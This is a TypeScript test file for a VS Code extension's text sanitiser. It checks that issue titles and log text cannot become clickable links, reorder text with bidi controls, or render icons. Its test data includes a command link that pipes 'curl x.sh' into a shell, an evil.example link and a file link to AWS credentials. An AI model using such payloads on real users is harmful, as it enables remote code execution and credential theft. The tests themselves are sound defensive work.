// Hostile text (an issue title from a function's logs, a problem in a repository's issue-state
// file, a webhook's answer) must not become a clickable link in a VS Code notification.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { labelText, notificationText } from '../../../src/vscode/messageText';

// The form VS Code renders as a link in a notification: [label](http(s)://…, command:… or file:…).
const LINK = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+\)/i;

test('a command link in an issue title is shown as text, not as a link', () => {
  const title = "Error: Bad coupon [Open coupon details](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x.sh%7Csh%5Cn%22%7D)";
  assert.match(title, LINK);
  const shown = notificationText(title);
  assert.doesNotMatch(shown, LINK);
  assert.equal(shown, "Error: Bad coupon [Open coupon details] (command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x.sh%7Csh%5Cn%22%7D)");
});

test('web and file links are neutralised too, and several in one text', () => {
  const text = 'see [docs](https://evil.example/x) and [key](file:///home/me/.aws/credentials)';
  assert.doesNotMatch(notificationText(text), LINK);
  assert.equal(notificationText(text).match(/\] \(/g)?.length, 2);
});

test('ordinary text is unchanged', () => {
  for (const text of ['TypeError: Cannot read properties of undefined (reading \'<str>\')', 'items[0] (the first) was empty', 'Lambdascope: 3 alerts in 2 functions (checkout, billing).']) {
    assert.equal(notificationText(text), text);
  }
});

test('bidi controls cannot reorder what the notification shows', () => {
  const shown = notificationText('Error: \u202Egnp.exe');
  assert.ok(!shown.includes('\u202E'));
});

test('an icon written in a log title is shown as written in a status bar or quick pick label', () => {
  const title = 'Error: $(check) all good $(sync~spin)';
  const shown = labelText(title);
  assert.equal(shown, 'Error: \\$(check) all good \\$(sync~spin)');
  // What VS Code draws as an icon: `$(name)` not preceded by a backslash.
  assert.doesNotMatch(shown, /(?<!\\)\$\([\w~-]+\)/);
  assert.equal(labelText('TypeError: x is not a function'), 'TypeError: x is not a function');
});
